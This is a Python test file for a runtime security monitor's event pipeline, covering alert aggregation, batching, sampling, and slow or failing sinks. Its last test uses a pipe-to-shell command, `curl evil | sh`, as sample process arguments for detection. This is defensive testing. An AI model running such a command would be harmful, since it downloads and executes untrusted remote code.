"""The pipeline with real threads and real (deliberately slow or failing) sinks."""

from __future__ import annotations

import random
import threading
import time
from collections.abc import Sequence
from dataclasses import replace

from sidecar.events import RuntimeEvent
from sidecar.pipeline import Pipeline
from sidecar.policy_model import Performance, Policy


def make_policy(rate: float = 1.0, size: int = 100, timeout: float = 0.2) -> Policy:
    return Policy(
        performance=Performance(sampling_rate=rate, batch_size=size, batch_timeout=timeout)
    )


def event(i: int = 0, **kw: object) -> RuntimeEvent:
    base: dict[str, object] = dict(
        timestamp=1000.0 + i,
        category="network",
        rule="network:outside-allowlist",
        severity="medium",
        action="alert",
        pid=10,
        ppid=1,
        process="/usr/bin/curl",
        syscall="connect",
        ip="6.6.6.6",
        port=443,
    )
    base.update(kw)
    return RuntimeEvent(**base)  # type: ignore[arg-type]


class Collect:
    """A sink that keeps what it gets; optionally slow, optionally failing first."""

    def __init__(self, name: str = "collect", delay: float = 0.0, fail: int = 0) -> None:
        self.name = name
        self.delay = delay
        self.fail = fail
        self.batches: list[tuple[RuntimeEvent, ...]] = []
        self.release = threading.Event()
        if not delay:
            self.release.set()

    def send(self, batch: Sequence[RuntimeEvent]) -> None:
        self.release.wait(self.delay)
        if self.fail:
            self.fail -= 1
            raise OSError("sink down")
        self.batches.append(tuple(batch))

    @property
    def events(self) -> list[RuntimeEvent]:
        return [e for b in self.batches for e in b]


def test_aggregation_counts_repeats() -> None:
    sink = Collect()
    pipe = Pipeline(make_policy(), [sink])
    for i in range(500):
        pipe.submit(event(i, pid=100 + i % 7))  # a loop of the same connect, many pids
    pipe.submit(event(0, ip="7.7.7.7"))
    pipe.close()
    assert len(sink.events) == 2
    loop = next(e for e in sink.events if e.ip == "6.6.6.6")
    assert loop.count == 500
    assert loop.as_dict()["count"] == 500
    assert (loop.extra["first_seen"], loop.extra["last_seen"]) == (1000.0, 1499.0)
    stats = pipe.stats()
    assert stats["events"] == 501 and stats["aggregated"] == 499 and stats["dropped"] == 0


def test_batches_cut_by_size() -> None:
    sink = Collect()
    pipe = Pipeline(make_policy(size=3, timeout=60), [sink])
    for i in range(7):
        pipe.submit(event(i, ip=f"6.6.6.{i}"))
    deadline = time.monotonic() + 5
    while len(sink.batches) < 2 and time.monotonic() < deadline:
        time.sleep(0.01)
    assert [len(b) for b in sink.batches] == [3, 3]  # the 7th waits for size or timeout
    pipe.close()
    assert [len(b) for b in sink.batches] == [3, 3, 1]  # close flushes


def test_batches_cut_by_timeout() -> None:
    sink = Collect()
    pipe = Pipeline(make_policy(size=1000, timeout=0.2), [sink])
    started = time.monotonic()
    pipe.submit(event())
    deadline = started + 5
    while not sink.batches and time.monotonic() < deadline:
        time.sleep(0.01)
    waited = time.monotonic() - started
    assert len(sink.batches) == 1 and waited >= 0.19
    pipe.close()


def test_sampling_never_drops_block_or_critical() -> None:
    sink = Collect()
    pipe = Pipeline(make_policy(rate=0.0), [sink])
    for i in range(50):
        pipe.submit(event(i, ip=f"1.1.1.{i}"))  # sampled out
    pipe.submit(event(0, ip="2.2.2.2", action="block"))
    pipe.submit(event(0, ip="3.3.3.3", severity="critical"))
    pipe.close()
    assert {e.ip for e in sink.events} == {"2.2.2.2", "3.3.3.3"}
    assert pipe.stats()["sampled_out"] == 50


def test_sampling_rate_is_respected() -> None:
    sink = Collect()
    pipe = Pipeline(make_policy(rate=0.3, size=10_000, timeout=60), [sink], rng=random.Random(7))
    for i in range(10_000):
        pipe.submit(event(i, ip=f"10.{i // 256 % 256}.{i % 256}.1", pid=i))
    pipe.close()
    kept = len(sink.events)
    assert 2_700 < kept < 3_300
    assert pipe.stats()["sampled_out"] == 10_000 - kept


def test_slow_sink_never_stalls_the_caller_and_drops_are_counted() -> None:
    slow = Collect("slow", delay=30)  # blocks until released
    fast = Collect("fast")
    pipe = Pipeline(make_policy(size=1, timeout=60), [slow, fast], queue_size=50, sink_queue_size=2)
    started = time.monotonic()
    for i in range(5_000):
        pipe.submit(event(i, ip=f"9.{i // 256 % 256}.{i % 256}.9"))
    elapsed = time.monotonic() - started
    assert elapsed < 10.0  # the sink hangs for 30 s: a blocked submit could not finish
    deadline = time.monotonic() + 5
    while pipe.stats()["queued"] and time.monotonic() < deadline:
        time.sleep(0.01)
    stats = pipe.stats()
    assert stats["sinks"]["slow"]["dropped_batches"] > 0  # the slow sink's queue overflowed
    assert stats["events"] == 5_000
    slow.release.set()
    pipe.close(timeout=5)
    final = pipe.stats()
    # every batch reached each sink or was counted as dropped for it: nothing vanished
    for name in ("slow", "fast"):
        sink_stats = final["sinks"][name]
        assert sink_stats["sent_batches"] + sink_stats["dropped_batches"] == final["batches"]
    assert final["accepted"] + final["dropped"] == 5_000


def test_bounded_queue_drops_when_the_pipeline_is_behind() -> None:
    gate = threading.Event()

    class Gate(Collect):
        def send(self, batch: Sequence[RuntimeEvent]) -> None:
            gate.wait(10)
            super().send(batch)

    sink = Gate()
    pipe = Pipeline(make_policy(size=1, timeout=60), [sink], queue_size=10, sink_queue_size=1)
    # freeze the pipeline thread by holding its only sink and filling the sink queue
    for i in range(2_000):
        pipe.submit(event(i, ip=f"8.{i // 256 % 256}.{i % 256}.8"))
    stats = pipe.stats()
    assert stats["dropped"] + stats["sinks"]["collect"]["dropped_events"] > 0
    gate.set()
    pipe.close()
    total = pipe.stats()
    delivered = len(sink.events)
    assert delivered + total["dropped"] + total["sinks"]["collect"]["dropped_events"] == 2_000


def test_failing_sink_is_counted_and_the_others_go_on() -> None:
    broken = Collect("broken", fail=1)
    good = Collect("good")
    pipe = Pipeline(make_policy(size=1), [broken, good])
    pipe.submit(event(1, ip="1.1.1.1"))
    pipe.submit(event(2, ip="2.2.2.2"))
    pipe.close()
    stats = pipe.stats()["sinks"]
    assert stats["broken"]["failed_batches"] == 1 and stats["broken"]["sent_batches"] == 1
    assert len(good.events) == 2


def test_submit_after_close_is_counted() -> None:
    pipe = Pipeline(make_policy(), [])
    pipe.close()
    pipe.submit(replace(event(), action="block"))
    assert pipe.stats()["dropped"] == 1


def test_two_command_lines_of_one_rule_are_two_events() -> None:
    """The issue's case: `sh -c 'id'` then `sh -c 'curl evil | sh'` under one rule were one
    event that kept only the first command line. The real engine, then the pipeline."""
    from sidecar.engine import Engine
    from sidecar.events import KIND_EXEC, SyscallEvent
    from sidecar.policy import parse_policy_text

    text = (
        "apiVersion: security.qualys.com/v1\nkind: TracingPolicy\nmetadata: {name: t}\n"
        "spec:\n  processExecution:\n    trackedExecutables:\n      - {name: sh}\n"
    )
    from sidecar.policy import merge

    engine = Engine(merge(parse_policy_text(text)))
    sink = Collect()
    pipe = Pipeline(make_policy(), [sink])
    for argv in [("sh", "-c", "id")] * 3 + [("sh", "-c", "curl evil | sh")] * 2:
        call = SyscallEvent(1.0, 7, 7, 1, "/bin/sh", "execve", KIND_EXEC, path="/bin/sh", argv=argv)
        for found in engine.evaluate(call).events:
            pipe.submit(found)
    pipe.close()
    assert sorted(e.count for e in sink.events) == [2, 3]  # repeats merged, lines kept apart
    assert all(e.args is None for e in sink.events)  # told apart without capturing them
